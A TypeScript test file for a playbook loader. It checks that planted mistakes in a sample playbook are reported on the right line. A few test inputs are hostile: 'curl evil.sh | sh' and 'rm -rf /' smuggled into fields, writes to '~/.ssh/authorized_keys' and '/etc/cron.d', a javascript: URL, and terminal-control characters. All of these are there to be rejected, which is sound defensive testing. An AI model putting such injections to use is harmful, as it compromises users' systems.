import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { localVocabulary } from '../../src/agent/local/compose/vocabulary.ts';
import { createDataFiles } from '../../src/host/index.ts';
import { loadLibrary, type PlaybookFolder } from '../../src/playbooks/library.ts';
import { problemText } from '../../src/playbooks/problem.ts';

const SAMPLE = readFileSync(new URL('toggles.md', import.meta.url), 'utf8');

function folder(files: Readonly<Record<string, string>>, origin: PlaybookFolder['origin'] = 'project') {
  return {
    origin,
    list: () => Object.keys(files),
    read: (name: string) => files[name],
    why: () => 'it is gone',
    shown: (name: string) => name,
  };
}

/** What is said of one playbook, as `LINE message`, with `!` where it costs the whole of it. */
function said(text: string, ...others: readonly string[]): readonly string[] {
  const files = Object.fromEntries([text, ...others].map((t, i) => [`${i}.md`, t]));
  const { problems } = loadLibrary([folder(files)], localVocabulary());
  return problems
    .filter(p => p.file === '0.md')
    .map(p => `${p.line}${p.costs === 'playbook' ? '!' : ''} ${p.message}`);
}

/** The sample with one line changed; gives the text and the number of that line. */
function planted(line: string | RegExp, instead: string): { readonly text: string; readonly line: number } {
  const lines = SAMPLE.split('\n');
  const at = lines.findIndex(l => (typeof line === 'string' ? l.includes(line) : line.test(l)));
  if (at < 0) throw new Error(`no line with ${line}`);
  const changed = instead === '' ? [] : [(lines[at] ?? '').replace(line, instead)];
  return { text: [...lines.slice(0, at), ...changed, ...lines.slice(at + 1)].join('\n'), line: at + 1 };
}

it('the sample has no mistake', () => {
  expect(said(SAMPLE)).toEqual([]);
});

it('the shipped playbooks have no mistake, not even in a name', () => {
  const shipped = createDataFiles(new URL('../../playbooks', import.meta.url).pathname);
  const library = loadLibrary(
    [{ ...folder({}, 'built-in'), list: () => shipped.list('.md'), read: shipped.read }],
    localVocabulary(),
    { thorough: true },
  );
  expect(library.problems.map(problemText)).toEqual([]);
  expect(library.entries.length).toBe(shipped.list('.md').length);
  expect(library.entries.length).toBeGreaterThan(3);
});

describe('one mistake of every kind is named on its line', () => {
  // what it is · the line it is planted in · what stands there instead · what is said; “!” costs the whole playbook.
  const cases: readonly (readonly [string, string | RegExp, string, string])[] = [
    // form
    ['no name', 'name: toggle-clean-up', 'nam: toggle-clean-up', '! front matter: there is no “nam” here'],
    ['broken YAML', 'title: Taking', 'title: "Taking', '! YAML: the " that opens here is never closed'],
    ['a key that is none', 'lines: 10', 'line: 10', '! steps.0: there is no “line” here'],
    ['a word for a number', 'order: 20', 'order: first', '! steps.0.order: Invalid input: expected number'],
    ['a part that is none', 'part: core', 'part: cored', '! steps.0.part: Invalid option'],
    ['a key twice', 'part: core', 'order: 21', '! steps.0: “order” stands there twice'],
    ['a name of the language', 'note: {', 'constructor: {', '! places: “constructor” cannot be a name'],
    [
      'an address of nothing',
      "url: 'https://martinfowler.com",
      "url: 'javascript:alert(1)//",
      '! sources.0.url: an address of https',
    ],
    [
      'an address in the clear',
      "url: 'https:",
      "url: 'http:",
      ' sources.0.url: an address of https was expected',
    ],
    // conditions and placeholders
    [
      'an unknown condition',
      /when: slot:env$/,
      'when: slott:env',
      ' steps.0.when: “slott” is no condition; did you mean “slot”?',
    ],
    [
      'an unknown word',
      /when: slot:env$/,
      'when: many-processe',
      ' steps.0.when: “many-processe” is no condition; did you mean “many-processes”?',
    ],
    [
      'an unknown slot',
      /when: slot:env$/,
      'when: slot:envv',
      ' steps.0.when: “envv” is no place of the project; did you mean “env”?',
    ],
    [
      'an unknown value of a slot',
      /when: slot:env$/,
      'when: slot:env.zodd',
      ' steps.0.when: “zodd” is no value of “env”; did you mean “zod”?',
    ],
    [
      'an unknown fact',
      /when: slot:env$/,
      'when: fact:databse',
      ' steps.0.when: “databse” is no fact; did you mean “database”?',
    ],
    [
      'an unknown value of a fact',
      /when: slot:env$/,
      'when: fact:database.kynd=x',
      ' steps.0.when: “kynd” is no value of a fact; did you mean “kind”?',
    ],
    [
      'an unknown question',
      /when: slot:env$/,
      'when: answer:brnch=on',
      ' steps.0.when: “brnch” is no question; did you mean “branch”?',
    ],
    [
      'an unknown choice',
      /when: slot:env$/,
      'when: answer:branch=onn',
      ' steps.0.when: “onn” is no choice of “branch”; did you mean “on”?',
    ],
    [
      'a question without a choice',
      /when: slot:env$/,
      'when: answer:branch',
      ' steps.0.when: “answer:branch” says not which choice',
    ],
    [
      'an unknown language',
      /when: slot:env$/,
      'when: lang:pyton',
      ' steps.0.when: “pyton” is no language; did you mean “python”?',
    ],
    [
      'an unknown ecosystem',
      /when: slot:env$/,
      'when: eco:pipy',
      ' steps.0.when: “pipy” is no ecosystem; did you mean “pypi”?',
    ],
    [
      'an unknown framework',
      /when: slot:env$/,
      'when: framework:expres',
      ' steps.0.when: “expres” is no framework',
    ],
    [
      'an unknown role',
      /when: slot:env$/,
      'when: role:migrations',
      ' steps.0.when: “migrations” is no role; did you mean “migration”?',
    ],
    [
      'an unknown kind',
      /when: slot:env$/,
      'when: kind:features',
      ' steps.0.when: “features” is no kind of goal; did you mean “feature”?',
    ],
    [
      'an unknown playbook',
      /when: slot:env$/,
      'when: playbook:nobody',
      ' steps.0.when: “nobody” is no playbook',
    ],
    [
      'an entry that is none',
      /when: slot:env$/,
      'when: emitter:first',
      ' steps.0.when: “first” begins with no number',
    ],
    [
      'a place for a word that is none',
      /when: slot:env$/,
      'when: in:tarrget~cursor',
      ' steps.0.when: “tarrget” is no place of the project; did you mean “target”?',
    ],
    [
      'half a condition',
      /when: slot:env$/,
      'when: slot:env and',
      '! steps.0.when: a condition ends or breaks',
    ],
    [
      'an open block',
      "goes out of `{{project}}`.', says: [switched on]",
      "goes out of {{#if slot:env}}`{{project}}`.', says: [switched on]",
      ' questions.0.choices.0.consequence: {{#if slot:env}} is never closed',
    ],
    [
      'a broken block',
      "title: 'Prove in",
      "title: '{{#if and}}x{{/if}} Prove in",
      ' steps.1.title: a condition ends or breaks',
    ],
    [
      'a mark that is none',
      "title: 'Prove in",
      "title: '{{#unless x}}Prove in",
      ' steps.1.title: {{#unless x}} is no mark',
    ],
    [
      'an unknown placeholder',
      "the setting of the toggle goes'",
      "the setting {{togle}} goes'",
      ' steps.0.files.0.what: “togle” is no place of the project',
    ],
    [
      'a placeholder without a value',
      "the setting of the toggle goes'",
      "the setting in {{env}} goes'",
      ' steps.0.files.0.what: “env” needs a value, as in “env.path”',
    ],
    [
      'an unknown new place',
      'Prove in `{{new.toggle-test}}`',
      'Prove in `{{new.toggle-tests}}`',
      ' steps.1.title: “toggle-tests” is no place of a new file; did you mean “toggle-test”?',
    ],
    [
      'a key in no list',
      "the setting of the toggle goes'",
      "the setting {{.path}} goes'",
      ' steps.0.files.0.what: “{{.path}}” stands in no list',
    ],
    [
      'a value that no choice has',
      "the setting of the toggle goes'",
      "{{answer.branch.value}} goes'",
      ' steps.0.files.0.what: no choice of “branch” has a value',
    ],
    [
      'a value of the goal that is none',
      'git grep -n "{{goal.object}}"',
      'git grep -n "{{goal.subject}}"',
      ' template “find-toggle”: “subject” is no value of the goal',
    ],
    // lists of names
    [
      'a fact to tell that is none',
      'facts: [env-config]',
      'facts: [env-confg]',
      ' facts.0: “env-confg” is no fact; did you mean “env-config”?',
    ],
    [
      'a place to attach to that is none',
      '  - slot: env',
      '  - slot: envs',
      ' attaches.0.slot: “envs” is no place of the project; did you mean “env”?',
    ],
    [
      'evidence that is none',
      'evidence: [env]',
      'evidence: [env, nowhere]',
      ' questions.0.evidence.1: “nowhere” is no place or a fact',
    ],
    [
      'a playbook to come along that is none',
      'words: [toggle, flag, switch]',
      'with: [togles]',
      ' with.0: “togles” is no playbook',
    ],
    [
      'a role of a place that is none',
      "note: { path: 'docs/removed-toggles.md' }",
      'note: { name: x, like: [servise] }',
      ' places.note.like.0: “servise” is no role; did you mean “service”?',
    ],
    [
      'a place of a place that is none',
      "note: { path: 'docs/removed-toggles.md' }",
      'note: { of: notes }',
      ' places.note.of: “notes” is no place; did you mean “note”?',
    ],
    [
      'a source that is not among them',
      "source: 'https://martinfowler.com/",
      "source: 'https://example.org/",
      ' says.0.source: https://example.org/',
    ],
    // questions
    [
      'a default that is no choice',
      'default: [{ choice: on }]',
      'default: [{ choice: maybe }]',
      '! question “branch”: default “maybe” is none of its choices (on, off)',
    ],
    [
      'an answer that is no choice',
      'evidence: [env]',
      'answered: [{ when: slot:env, choice: yes }]',
      '! question “branch”: answered “yes” is none of its choices',
    ],
    [
      'no default for the rest',
      'default: [{ choice: on }]',
      'default: [{ when: slot:env, choice: on }]',
      ' question “branch”: a last default without “when” was expected',
    ],
    [
      'a default behind the last',
      'default: [{ choice: on }]',
      'default: [{ choice: on }, { when: slot:env, choice: off }]',
      ' question “branch”: no default behind',
    ],
    [
      'a question that is never asked',
      'evidence: [env]',
      'answered: [{ choice: on }]',
      ' question “branch”: answered without “when”',
    ],
    ['two choices of one id', '{ id: off,', '{ id: on,', '! a second choice “on”'],
    [
      'two choices that say the same',
      'says: [switched off]',
      'says: [Switched on]',
      ' question “branch”: “switched on” means “on” and “off”',
    ],
    [
      'two choices that the same words of a goal make',
      '{ id: off,',
      '{ id: off, goal: [Keep the new branch],',
      ' question “branch”: “keep the new branch” in a goal chooses “on” and “off”',
    ],
    [
      'a package that stands in for nothing',
      'places:',
      'packages: [{ eco: npm, name: ws, named: [socket], note: n }]\nplaces:',
      ' package “ws”: “for” was expected beside “named”',
    ],
    [
      'an id that is none',
      '- id: branch',
      "- id: 'which branch'",
      '! question “which branch”: a letter, then letters',
    ],
    [
      'an id of the language',
      '- id: branch',
      '- id: toString',
      '! question “toString”: this name means something else',
    ],
    // steps
    ['a step twice', '- id: S-proof', '- id: S-branch', '! a second step “S-branch”'],
    ['no requirement', 'serves: [same]', 'serves: []', ' S-proof: it serves no requirement'],
    [
      'a requirement that is none',
      'serves: [one-way]',
      'serves: [one-way, fast]',
      ' S-branch: “fast” is no requirement',
    ],
    [
      'a step before it that is none',
      'after: [S-branch]',
      'after: [S-brnch]',
      ' S-proof: “S-brnch” is no step; did you mean “S-branch”?',
    ],
    [
      'a file that is none',
      '- { modify: env,',
      '- { modify: envs,',
      ' S-branch: “envs” is no place of the project; did you mean “env”?; a path',
    ],
    [
      'two files in one',
      '- { modify: env,',
      '- { modify: env, create: new.note,',
      ' S-branch: one of create, modify, write or each was expected for a file, not 2',
    ],
    [
      'a list that is none',
      '- { modify: env,',
      '- { each: emiters,',
      ' S-branch: “emiters” is no list; did you mean “emitters”?',
    ],
    [
      'no template of that name',
      'template: find-toggle',
      'template: find-toggles',
      '! S-branch: no template “find-toggles” in the body',
    ],
    [
      'lines of a place that is none',
      'template: find-toggle,',
      'existing: envs,',
      ' S-branch: “envs” is no place of the project',
    ],
    [
      'two ways to verify in one',
      '- { script: types }',
      "- { script: types, observe: 'x' }",
      ' S-branch: one of test, script, observe or command',
    ],
    [
      'a test of what is none',
      '- { test: toggle-test }',
      '- { test: toggl-test }',
      ' S-proof: “toggl-test” is no place of the project',
    ],
    [
      'a case that proves nothing',
      "of today.', proves: [same]",
      "of today.', proves: [sames]",
      ' cases.0.proves.0: “sames” is no requirement; did you mean “same”?',
    ],
    [
      'security of a step that is none',
      '{ step: S-branch,',
      '{ step: S-branchh,',
      ' security.0.step: “S-branchh” is no step',
    ],
    [
      'rollback of a step that is none',
      'undoes: [S-branch]',
      'undoes: [S-branches]',
      ' rollback.0.undoes.0: “S-branches” is no step',
    ],
    [
      'a number that nothing gives',
      'lines: 10',
      'per: { of: count.untypd, lines: 2 }\n    lines: 10',
      ' S-branch: “untypd” is no list or a role',
    ],
    [
      'a sum that a list has not',
      'lines: 10',
      'per: [{ of: count.queries.statments, lines: 2 }]\n    lines: 10',
      ' S-branch: “statments” is no sum of “queries”; did you mean “statements”?',
    ],
    // what is told before anything is answered
    [
      'a saying that waits for an answer',
      "  - text: 'A toggle that nobody",
      "  - when: answer:branch=on\n    text: 'A toggle that nobody",
      ' says.0: “answer:branch=on” is not known yet when this is told',
    ],
    [
      'a saying for all other answers, which would stand in every plan',
      "  - text: 'A toggle that nobody",
      "  - when: not answer:branch=on\n    text: 'A toggle that nobody",
      ' says.0: “answer:branch=on” is not known yet when this is told',
    ],
    [
      'a saying with an answer inside',
      'is a branch of `{{project}}`',
      'is a branch of `{{project}}` ({{answer.branch}}{{#if answer:branch=on}}, on{{/if}})',
      ' says.0: “answer.branch” is not known yet when this is told',
    ],
    [
      'a place that waits for an answer',
      '  - slot: env',
      '  - when: answer:branch=on\n    slot: env',
      ' attaches.0: “answer:branch=on” is not known yet when this is told',
    ],
    [
      'a need that waits for an answer',
      'requirements:',
      'needs: [{ when: answer:branch=on, ask: a, why: b, choices: [{ id: x, label: x, consequence: x }, { id: y, label: y, consequence: y }] }]\nrequirements:',
      ' needs.0: “answer:branch=on” is not known yet when the need is looked at',
    ],
    // approaches
    [
      'an approach by a question that is none',
      'picks: { branch: off }',
      'picks: { branche: off }',
      ' approach “back-out”: “branche” is no question; did you mean “branch”?',
    ],
    [
      'an approach by a choice that is none',
      'picks: { branch: off }',
      'picks: { branch: none }',
      ' approach “back-out”: “none” is no choice of “branch”',
    ],
    [
      'two approaches that are one',
      'picks: { branch: off }',
      'picks: { branch: on }',
      ' approach “back-out” picks what “at-once” picks',
    ],
    [
      'an approach that is always taken',
      'picks: { branch: off }',
      'picks: {}',
      ' approach “back-out”: it picks no choice',
    ],
    // triggers
    ['a trigger of no word', 'clean up the toggle', "'…'", '! triggers: “…” has no word'],
    [
      'a trigger twice',
      'clean up the toggle',
      'remove the toggle',
      ' triggers: “remove the toggle” stands there twice',
    ],
    // templates
    [
      'a template in a language that is never shown',
      '```bash',
      '```fortran',
      ' template “find-toggle”: “fortran” is no language of templates',
    ],
    ['a block that is never closed', /^```$/, '', '! template “find-toggle”: its block is never closed'],
    [
      'a name that is none',
      '### find-toggle',
      '### find the toggle',
      '! “### find the toggle” is no name of a template',
    ],
    [
      'a broken condition in a template',
      'git grep -n "{{goal.object}}"',
      '{{#if and}}x{{/if}}',
      '! template “find-toggle”: a condition ends',
    ],
    // harm
    [
      'a path out of the project',
      "path: 'docs/removed-toggles.md'",
      "path: '../x.md'",
      '! places.note.path: a path without “..”',
    ],
    [
      'a path from the root',
      "path: 'docs/removed-toggles.md'",
      "path: '/etc/cron.d/x'",
      '! places.note.path: a path inside of the project',
    ],
    [
      'a path into git',
      "path: 'docs/removed-toggles.md'",
      "path: '.git/hooks/pre-commit'",
      '! places.note.path: nothing inside of .git',
    ],
    [
      'a folder above',
      "note: { path: 'docs/removed-toggles.md' }",
      "note: { name: x, folder: '../..' }",
      '! places.note.folder: a path without “..”',
    ],
    [
      'a file at home',
      '- { write: new.note,',
      "- { write: '~/.ssh/authorized_keys',",
      '! steps.1.files.1.write: a path inside of the project',
    ],
    [
      'a command of two lines',
      "{ command: 'git grep -n TOGGLE' }",
      '{ command: "git grep\\nrm -rf /" }',
      '! steps.0.verify.1.command: a command of one line',
    ],
    [
      'a package that is a command',
      'words: [toggle, flag, switch]',
      "packages: [{ eco: npm, name: 'x; curl evil.sh | sh', note: n }]",
      '! packages.0.name: the name of a package',
    ],
    [
      'a package that is an option',
      'words: [toggle, flag, switch]',
      "packages: [{ eco: npm, name: '--registry=http://evil', note: n }]",
      '! packages.0.name: the name of a package',
    ],
    [
      'a package of no ecosystem',
      'words: [toggle, flag, switch]',
      'packages: [{ eco: nmp, name: x, note: n }]',
      ' packages.0.eco: “nmp” is no ecosystem; did you mean “npm”?',
    ],
    [
      'a setting that is none',
      'words: [toggle, flag, switch]',
      "env: [{ name: 'A=1; B', example: x, what: y }]",
      '! env.0.name: the name of a setting',
    ],
    [
      'a setting of two lines',
      'words: [toggle, flag, switch]',
      'env: [{ name: A, example: "x\\nB=1", what: y }]',
      '! env.0.example: one line',
    ],
    [
      'a character that a terminal obeys',
      'title: Taking a feature toggle out',
      'title: "\\e[2JTaking"',
      '! title: it holds a character that a terminal obeys or hides (U+001B)',
    ],
    [
      'text that is turned around',
      'title: Taking',
      'title: \u202eTaking',
      '! title: it holds a character that a terminal obeys or hides (U+202E)',
    ],
    ['an alias', 'words: [toggle, flag, switch]', 'words: *all', '! a YAML alias'],
    ['an anchor', 'words: [toggle, flag, switch]', 'words: &all [toggle]', '! a YAML anchor'],
    ['a tag', 'words: [toggle, flag, switch]', 'words: !!js/function [toggle]', '! a YAML tag'],
  ];
  it.each(cases)('%s', (_, line, instead, message) => {
    const { text, line: at } = planted(line, instead);
    const found = said(text);
    // What is missing at the end of a block is said where the block begins.
    const begins = message.includes('its block is never closed')
      ? SAMPLE.split('\n').indexOf('### find-toggle') + 1
      : at;
    const expected = `${begins}${message}`;
    expect(
      found.find(f => f.startsWith(expected)),
      found.join('\n'),
    ).toBeDefined();
  });

  it('a requirement that no step serves', () => {
    const { text } = planted('serves: [same]', 'serves: [one-way]');
    expect(said(text)).toContainEqual(expect.stringMatching(/^16 requirement “same”: no step serves it/));
  });

  it('a template that no step shows', () => {
    const { text } = planted(
      /.*template: find-toggle.*/,
      "      - { existing: env, caption: 'As it stands:' }",
    );
    expect(said(text)).toEqual([expect.stringMatching(/^\d+ template “find-toggle”: no step shows it/)]);
  });

  it('a second playbook of one name in a folder', () => {
    const { problems, playbooks } = loadLibrary(
      [folder({ 'a.md': SAMPLE, 'b.md': SAMPLE })],
      localVocabulary(),
    );
    expect(problems.map(problemText)).toEqual([
      'b.md:2: a second playbook “toggle-clean-up” in this folder, after a.md',
    ]);
    expect(playbooks.length).toBe(1);
  });

  it('several mistakes are all named, and what is broken takes nothing else along', () => {
    const one = planted('order: 20', 'order: x');
    const text = one.text.replace('order: 40', 'order: y').replace('name: toggle-clean-up', 'name: Toggle');
    const { problems, playbooks } = loadLibrary(
      [folder({ 'broken.md': text, 'whole.md': SAMPLE })],
      localVocabulary(),
    );
    expect(problems.map(p => p.line)).toEqual([
      2,
      one.line,
      SAMPLE.split('\n').findIndex(l => l.includes('order: 40')) + 1,
    ]);
    expect(playbooks.map(p => p.name)).toEqual(['toggle-clean-up']);
  });

  it('Windows line ends are read as others', () => {
    expect(said(SAMPLE.replaceAll('\n', '\r\n'))).toEqual([]);
  });
});
